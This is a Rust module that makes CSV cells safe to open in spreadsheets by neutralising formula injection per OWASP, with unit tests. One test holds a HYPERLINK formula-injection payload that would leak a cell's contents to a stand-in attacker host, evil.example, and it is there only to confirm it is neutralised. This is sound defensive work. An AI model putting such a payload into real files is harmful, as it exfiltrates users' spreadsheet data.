//! Cells from the data folder made safe for a spreadsheet.
//!
//! **For spreadsheets only.** `sok --format csv` is written to be opened in Excel, LibreOffice
//! Calc or Google Sheets, and its cells are *altered* so that none becomes a formula (OWASP's
//! advice on CSV injection): a cell whose first character (after any spaces) is `=`, `+`, `-`,
//! `@`, a tab, a carriage return, a line feed or a NUL gets a leading `'` and is quoted, so
//! `=HYPERLINK(…)` is shown as text, and so is a phone number `+46 470 …`, which a spreadsheet
//! would otherwise read as a sum. Control characters and the bidirectional overrides are shown
//! as `\u{1b}`, as in the terminal; a line break in a value is kept, inside the quoted cell.
//!
//! CSV meant for data exchange, which must read back exactly as it was written (an HSDS
//! tabular export, say), must not be written through here: it needs plain RFC 4180 quoting
//! and no `'`. resurs writes no such CSV today.
//!
//! The file: UTF-8 with a byte order mark (so that Excel reads it as UTF-8), `;` between cells
//! (Excel's list separator in Swedish), CRLF line ends, and RFC 4180 quoting: a cell with a `"`,
//! a `;`, a `,` (the separator where the spreadsheet uses commas), a line break or a `'` that
//! resurs added is quoted, and its `"` doubled.

use crate::render::escape::terminal::is_bidi_control;

/// The characters that make a spreadsheet read a cell as a formula when the cell begins with
/// one (OWASP: `=`, `+`, `-`, `@`, tab, carriage return; ASVS 1.2.10 adds NUL; a line feed is a
/// line break just as a carriage return is).
fn starts_formula(c: char) -> bool {
    matches!(c, '=' | '+' | '-' | '@' | '\t' | '\r' | '\n' | '\0')
}

/// One cell, neutralised and quoted as it needs.
pub fn cell(s: &str) -> String {
    let first = s.chars().find(|c| *c != ' ');
    let neutralise = first.is_some_and(starts_formula);
    let mut body = String::with_capacity(s.len() + 2);
    if neutralise {
        body.push('\'');
    }
    let mut chars = s.chars().peekable();
    while let Some(c) = chars.next() {
        match c {
            // A line break stays a line break in the cell: CRLF and a lone CR become LF.
            '\r' => {
                if chars.peek() == Some(&'\n') {
                    chars.next();
                }
                body.push('\n');
            }
            '\n' | '\t' => body.push(c),
            c if c.is_control() || is_bidi_control(c) => body.extend(c.escape_unicode()),
            c => body.push(c),
        }
    }
    if neutralise || body.contains(['"', ';', ',', '\n']) {
        format!("\"{}\"", body.replace('"', "\"\""))
    } else {
        body
    }
}

/// A whole file: the byte order mark, the header and the rows, each line ended by CRLF.
pub fn sheet<R, C>(header: &[&str], rows: R) -> String
where
    R: IntoIterator<Item = C>,
    C: IntoIterator<Item = String>,
{
    let mut out = String::from("\u{feff}");
    let line = |out: &mut String, cells: &mut dyn Iterator<Item = String>| {
        for (i, c) in cells.enumerate() {
            if i > 0 {
                out.push(';');
            }
            out.push_str(&cell(&c));
        }
        out.push_str("\r\n");
    };
    line(&mut out, &mut header.iter().map(|h| (*h).to_owned()));
    for row in rows {
        line(&mut out, &mut row.into_iter());
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formulas_become_text() {
        assert_eq!(
            cell("=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"x\")"),
            "\"'=HYPERLINK(\"\"http://evil.example/?leak=\"\"&A1,\"\"x\"\")\""
        );
        for (input, want) in [
            ("+46 470 123 45", "\"'+46 470 123 45\""),
            ("-2+3", "\"'-2+3\""),
            ("@SUM(A1)", "\"'@SUM(A1)\""),
            ("\t=1", "\"'\t=1\""),
            ("\r=1", "\"'\n=1\""),
            ("  =1", "\"'  =1\""),
        ] {
            assert_eq!(cell(input), want, "{input:?}");
        }
    }

    #[test]
    fn plain_cells_are_left_alone_and_rfc_4180_quoted_where_needed() {
        assert_eq!(cell("Matkassar"), "Matkassar");
        assert_eq!(cell("0470-123 45"), "0470-123 45");
        assert_eq!(cell("a@b.se"), "a@b.se");
        assert_eq!(cell("sv, en"), "\"sv, en\"");
        assert_eq!(cell("a;b"), "\"a;b\"");
        assert_eq!(cell("säg \"hej\""), "\"säg \"\"hej\"\"\"");
        assert_eq!(cell("rad\r\nrad"), "\"rad\nrad\"");
        assert_eq!(cell("a\u{1b}[2J\u{202e}"), "a\\u{1b}[2J\\u{202e}");
    }
}
